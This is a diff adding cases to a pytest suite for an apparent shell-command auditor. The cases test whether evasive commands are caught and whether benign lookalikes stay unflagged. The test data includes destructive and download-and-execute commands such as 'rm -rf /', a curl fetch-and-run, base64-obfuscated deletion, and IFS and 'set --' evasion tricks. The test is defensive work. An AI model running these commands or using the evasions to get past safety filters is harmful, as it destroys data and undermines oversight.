@@ -38,6 +38,8 @@ from audit import Decision
         pytest.param("cd / && rm -rf *", "FS001", id="a relative glob after cd /"),
         pytest.param("curl -so t https://x/t && ./t", "EX009", id="curl -o inside a short option cluster"),
         pytest.param("echo cm0gLXJmIH4= | base64 -d > x.sh; . ./x.sh", "EX009", id="a decoded file that a pipeline stage wrote"),
+        pytest.param("bash -c 'true; set -- rm -rf /; \"$@\"'", "FS001", id="set -- inside a code string"),
+        pytest.param("(( $(curl -s u) > 0 ))", "EX010", id="arithmetic evaluates a downloaded operand"),
         pytest.param("a=(x); echo x | base64 -d | bash 2>&1 | tee log", "EX001", id="redirect on a middle pipeline stage"),
         pytest.param("$(echo rm) -rf /", "FS001", id="echo in command position"),
         pytest.param("IFS=,; cmd=rm,-rf,/; $cmd", "FS001", id="field splitting on a custom IFS"),
@@ -65,6 +67,8 @@ def test_pinned_bypass_is_caught(command: str, rule: str) -> None:
         pytest.param("cat /etc/$f", id="a run-time file name in /etc is not assumed to be shadow"),
         pytest.param("while [ -f x ]; do sh & done", id="a real test condition is not endless"),
         pytest.param("bash <(echo ls)", id="a printed harmless script"),
+        pytest.param("bash <(echo 'bash -c '\\''[[ -n $(curl -s t1) ]]'\\''')", id="quoted [[ in a mixed-quote word"),
+        pytest.param('cat > notes.txt <<< "first line"', id="a here-string after a file redirect"),
     ],
 )
 def test_pinned_false_positive_stays_quiet(command: str) -> None:
